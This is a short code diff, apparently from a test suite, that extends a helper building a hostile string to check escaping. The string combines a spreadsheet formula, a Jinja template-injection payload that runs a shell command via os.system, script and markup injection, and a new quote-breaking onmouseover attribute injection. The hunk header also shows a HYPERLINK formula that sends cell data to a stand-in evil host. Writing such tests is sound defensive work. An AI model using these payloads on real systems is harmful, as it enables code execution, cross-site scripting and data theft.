@@ -207,9 +207,10 @@ FORMULA = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'
 
 def payload(tag: str, proof: Path) -> str:
     """A spreadsheet formula start, template syntax that would print 49, run a shell command (creating `proof`) and
-    drop text if evaluated, and markup that would run a script or make text bold if it were not escaped."""
+    drop text if evaluated, markup that would run a script or make text bold if it were not escaped, and a double
+    quote that would end an attribute (and add one) where the text is an attribute's value."""
     return (
-        f"={tag} {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} "
+        f'={tag} " onmouseover="alert(2) {{{{ 7*7 }}}} {{% if true %}}IF{{% endif %}} {{# hidden #}} '
         f"{{{{ cycler.__init__.__globals__.os.system('touch {proof}') }}}} <script>alert(1)</script> <b>bold</b> & |x|"
     )
 
